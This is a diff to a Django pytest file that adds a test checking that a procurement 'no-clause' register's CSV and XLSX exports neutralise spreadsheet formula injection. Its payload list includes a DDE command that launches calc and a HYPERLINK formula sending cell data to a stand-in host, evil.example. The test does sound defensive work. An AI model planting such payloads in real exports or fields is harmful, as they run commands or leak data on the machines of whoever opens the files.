@@ -11,10 +11,12 @@ import pytest
 from django.urls import reverse
 
 from beneficiaries.people.models import PersonIdentity
+from clauses.procurement.models import NoClauseDecision
 from inclusiv.core.sheets import FORMULA_STARTS
 from inclusiv.demo.make import beneficiaries
+from inclusiv.demo.make import clauses as make
 from tests.attacks.conftest import Attacker
-from tests.world import World
+from tests.world import NOW, World
 
 FORMULAS = (
     "=cmd|'/c calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)", '=HYPERLINK("https://evil.example?x="&A1;"ici")', "＝1+1",
@@ -62,3 +64,27 @@ def test_to_have_an_export_of_a_kind_of_one_s_own(world: World, browser: Attacke
     assert answer.headers["Content-Type"].startswith("text/html")
     assert "Content-Disposition" not in answer.headers
     assert "Set-Cookie" not in answer.headers
+
+
+def test_to_have_a_spreadsheet_run_why_there_is_no_clause(world: World, browser: Attacker) -> None:
+    """The register of the law leaves as a file too: the words of a buyer, read by who follows it."""
+    NoClauseDecision.objects.bulk_create(
+        NoClauseDecision(
+            tender=make.tender(
+                buyer=world.own.buyer, structure=world.own.structure, reference=f"{rank}", title=formula
+            ),
+            reason="OTHER", text=formula, decided_by=formula, decided_on=NOW.date(), recorded_at=NOW,
+        )
+        for rank, formula in enumerate(FORMULAS)
+    )  # fmt: skip
+    address = reverse("obligations:no-clause-register")
+    browser.acting(world.cast.facilitator)
+    rows = list(csv.reader(io.StringIO(received(browser, address, "csv").decode("utf-8-sig")), delimiter=";"))
+    assert [len(row) for row in rows] == [len(rows[0])] * (len(FORMULAS) + 1)
+    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
+    with ZipFile(io.BytesIO(received(browser, address, "xlsx"))) as parts:
+        assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()
+
+
+def received(browser: Attacker, address: str, kind: str) -> bytes:
+    return bytes(browser.get(address, {"export": kind}).received)
